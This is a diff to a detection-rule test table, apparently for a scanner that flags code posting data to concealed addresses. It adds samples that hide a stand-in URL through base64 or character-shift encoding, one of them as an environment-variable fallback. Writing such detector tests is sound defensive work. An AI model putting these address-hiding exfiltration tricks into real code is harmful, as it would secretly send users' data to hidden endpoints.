@@ -169,6 +169,13 @@ RULES = [
                 "import base64, requests\n"
                 "def f(data):\n    requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv'), data=data)\n"
             ),
+            # The decoded address as the fallback of an environment variable.
+            positive(
+                "import os, requests\n"
+                "def f(data):\n"
+                "    url = os.environ.get('PKG_URL', ''.join(chr(ord(c) - 1) for c in 'iuuqt;00fybnqmf/jowbmje0'))\n"
+                "    requests.post(url, data=data)\n"
+            ),
             negative(
                 "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n"
             ),
@@ -182,6 +189,11 @@ RULES = [
                 "import base64, requests\n"
                 "def send(url, data):\n    requests.post(url, data=data)\n"
                 "def f(data):\n    send('https://example.invalid/', base64.b64decode(data))\n"
+            ),
+            negative(
+                "import os, requests\n"
+                "def f(data):\n"
+                "    requests.post(os.environ.get('PKG_URL', 'https://api.example.invalid/v1'), data=data)\n"
             ),
         ),
         when=(Fact.HIDDEN_ADDRESS_CONTACTED, Fact.DOWNLOADED_ADDRESS_CONTACTED),
